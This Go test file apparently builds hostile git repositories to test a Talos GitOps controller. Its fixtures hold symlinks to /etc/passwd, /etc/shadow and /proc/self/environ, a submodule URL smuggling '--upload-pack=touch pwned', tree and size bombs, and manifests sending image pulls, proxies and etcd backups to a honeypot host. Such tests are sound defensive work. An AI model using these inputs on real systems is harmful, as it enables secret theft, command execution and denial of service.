package scenarios

import (
	"bytes"
	"fmt"
	"strings"
)

// deltas are forty files of 15 MiB, each within the limit of a file, that are next to nothing in a pack.
func deltas(s *stranger) string {
	var list []entry
	for i := range 40 {
		data := make([]byte, 15<<20)
		copy(data[len(data)-8:], fmt.Sprintf("%08d", i))
		list = append(list, entry{"100644", fmt.Sprintf("f%02d.yaml", i), s.git(data, "hash-object", "-w", "--stdin")})
	}
	return s.with(entry{"040000", "evil", s.tree(list...)})
}

func symlinks(s *stranger) string {
	return s.with(entry{"040000", "evil", s.tree(
		entry{"120000", "passwd.yaml", s.blob("/etc/passwd")},
		entry{"120000", "up.yaml", s.blob("../../../../etc/shadow")},
		entry{"120000", "dir", s.blob("..")},
		entry{"120000", "self.yaml", s.blob("self.yaml")},
	)})
}

// linkedPatch is a patch whose file is a symlink out of the repository.
func linkedPatch(s *stranger) string {
	return s.with(entry{"040000", "evil", s.tree(
		entry{"120000", "patch.yaml", s.blob("/proc/self/environ")},
		entry{"100644", "a.yaml", s.blob(patch("p", "  path: ./patch.yaml\n"))},
	)})
}

func submodule(s *stranger) string {
	return s.with(
		entry{"160000", "sub", strings.Repeat("0c", 20)},
		entry{"100644", ".gitmodules", s.blob("[submodule \"sub\"]\n\tpath = sub\n\turl = --upload-pack=touch pwned\n")},
	)
}

// named is a folder with a manifest under a name.
func named(name string) func(*stranger) string {
	return func(s *stranger) string {
		return s.with(entry{"040000", "evil", s.tree(entry{"040000", name, s.tree(entry{"100644", "a.yaml", s.blob("a: b\n")})})})
	}
}

func namedFile(name string) func(*stranger) string {
	return func(s *stranger) string {
		return s.with(entry{"040000", "evil", s.tree(entry{"100644", name, s.blob(machine("w9", "  hostnam: x\n"))})})
	}
}

func twice(s *stranger) string {
	return s.with(entry{"040000", "evil", s.tree(
		entry{"100644", "a.yaml", s.blob("a: b\n")}, entry{"100644", "a.yaml", s.blob(machine("w9", ""))},
	)})
}

func oddMode(s *stranger) string {
	return s.with(entry{"040000", "evil", s.tree(entry{"100666", "a.txt", s.blob("x")}, entry{"100777", "b.txt", s.blob("x")})})
}

// million is a million paths in two trees.
func million(s *stranger) string {
	b := s.blob("a: b\n")
	var leaf, top []entry
	for i := range 1000 {
		leaf = append(leaf, entry{"100644", fmt.Sprintf("f%03d.yaml", i), b})
	}
	t := s.tree(leaf...)
	for i := range 1000 {
		top = append(top, entry{"040000", fmt.Sprintf("d%03d", i), t})
	}
	return s.with(entry{"040000", "evil", s.tree(top...)})
}

// treeBomb is 10^12 paths in twelve trees.
func treeBomb(s *stranger) string {
	t := s.tree(entry{"100644", "a.yaml", s.blob("a: b\n")})
	for range 12 {
		var list []entry
		for i := range 10 {
			list = append(list, entry{"040000", fmt.Sprintf("d%d", i), t})
		}
		t = s.tree(list...)
	}
	return s.with(entry{"040000", "evil", t})
}

// distinct are many small files that are all different: each costs a parser some memory.
func distinct(n int) func(*stranger) string {
	return func(s *stranger) string {
		var b bytes.Buffer
		fmt.Fprintf(&b, "commit refs/heads/import\ncommitter Eve <eve@example.org> 0 +0000\ndata 0\n\n")
		for i := range n {
			text := fmt.Sprint(i)
			fmt.Fprintf(&b, "M 100644 inline evil/%03d/%d.txt\ndata %d\n%s\n", i/1000, i, len(text), text)
		}
		s.git(b.Bytes(), "fast-import", "--quiet", "--force")
		return s.git(nil, "rev-parse", "import^{tree}")
	}
}

func deep(n int) func(*stranger) string {
	return func(s *stranger) string {
		t := s.tree(entry{"100644", "a.yaml", s.blob("a: b\n")})
		for range n {
			t = s.tree(entry{"040000", "d", t})
		}
		return s.with(entry{"040000", "evil", t})
	}
}

// ownSecrets is a cluster whose secrets are the stranger's own, in plain text.
func ownSecrets(s *stranger) string {
	return s.files(map[string]string{
		"cluster.yaml": api + `kind: TalosCluster
metadata:
  name: mine
spec:
  talosVersion: v1.13.5
  contract: v1.13
  kubernetesVersion: v1.36.1
  endpoint: {type: loadBalancer, address: 127.20.40.201}
  controlPlane: {count: 1}
  secretsRef: {path: ./cluster-secrets.yaml}
`,
		"cluster-secrets.yaml": "cluster:\n  id: x\n  secret: c2VjcmV0\nsecrets:\n  bootstraptoken: abcdef.0123456789abcdef\n" +
			"  secretboxencryptionsecret: c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2U=\n",
	})
}

// brokenSecrets is the cluster's own bundle with another MAC: whoever decrypts it would say so.
func brokenSecrets(s *stranger) string {
	text := s.git(nil, "show", "HEAD:prod/secrets.sops.yaml")
	i := strings.Index(text, "mac: ENC[AES256_GCM,data:")
	if i < 0 {
		s.Fatal("the bundle has no MAC")
	}
	i += len("mac: ENC[AES256_GCM,data:")
	text = text[:i] + "AAAA" + text[i+4:] + "\n"
	return s.replaced("prod", "secrets.sops.yaml", s.blob(text))
}

// replaced is the base's tree with one file of a folder replaced.
func (s *stranger) replaced(dir, name, hash string) string {
	s.Helper()
	var out []entry
	for _, e := range s.root {
		if e.name == dir {
			var list []entry
			for line := range strings.SplitSeq(s.git(nil, "ls-tree", "HEAD:"+dir), "\n") {
				meta, n, _ := strings.Cut(line, "\t")
				f := strings.Fields(meta)
				if n == name {
					f[2] = hash
				}
				list = append(list, entry{f[0], n, f[2]})
			}
			e.hash = s.tree(list...)
		}
		out = append(out, e)
	}
	return s.tree(out...)
}

// elsewhere names an address wherever one can be named.
func elsewhere(honeypot string) func(*stranger) string {
	return one("a.yaml", machine("w9", "  endpoint: 127.20.40.99\n  install: {image: \""+honeypot+"/evil:v1\", disk: /dev/vda}\n")+
		"---\n"+patch("p", "  documents:\n  - machine:\n      env: {http_proxy: \"http://"+honeypot+"\"}\n      registries: {mirrors: {docker.io: {endpoints: [\"http://"+honeypot+"\"]}}}\n")+
		"---\n"+api+`kind: TalosEtcdBackup
metadata:
  name: b
spec:
  clusterRef: {name: prod}
  schedule: "* * * * *"
  s3: {endpoint: "http://`+honeypot+`", bucket: b, region: r, insecure: true, credentialsRef: {path: ./nothing.yaml}}
---
`+api+`kind: TalosEtcdBackup
metadata:
  name: c
spec:
  clusterRef: {name: prod}
  schedule: "* * * * *"
  s3: {endpoint: "https://store.prod.svc.cluster.local", bucket: b, region: r, credentialsRef: {path: ./nothing.yaml}}
`)
}

func scan(s *stranger) string {
	text := s.git(nil, "show", "HEAD:prod/cluster.yaml")
	return s.replaced("prod", "cluster.yaml", s.blob(text+"\n  discovery:\n    cidrs: [0.0.0.0/0, 10.0.0.0/8]\n"))
}

// costly is a policy whose expression would take ages.
func costly(s *stranger) string {
	list := "[" + strings.Repeat("1,", 200) + "1]"
	expr := "true"
	for i := range 8 {
		expr = fmt.Sprintf("%s.all(x%d, %s)", list, i, expr)
	}
	return s.files(map[string]string{"policy.yaml": api + "kind: TalosPolicy\nmetadata:\n  name: costly\nspec:\n  rules:\n  - name: slow\n    message: slow\n    expression: \"" + expr + "\"\n"})
}

// muchText are thirty different files of a MiB that hold no manifest: each would be read for secrets.
func muchText(s *stranger) string {
	files := map[string]string{}
	for i := range 30 {
		files[fmt.Sprintf("t%02d.txt", i)] = strings.Repeat(fmt.Sprintf("line %d of nothing at all\n", i), 38_000)
	}
	return s.files(files)
}

// crowd adds machines: each would be rendered.
func crowd(n int) func(*stranger) string {
	return func(s *stranger) string {
		files := map[string]string{}
		var b strings.Builder
		for i := range n {
			fmt.Fprintf(&b, "---\n%s", machine(fmt.Sprintf("m%d", i), fmt.Sprintf("  endpoint: 127.%d.%d.%d\n", 30+i/60000, i/250%250, 1+i%250)))
			if b.Len() > 900_000 || i == n-1 {
				files[fmt.Sprintf("f%d.yaml", i)] = b.String()
				b.Reset()
			}
		}
		return s.files(files)
	}
}
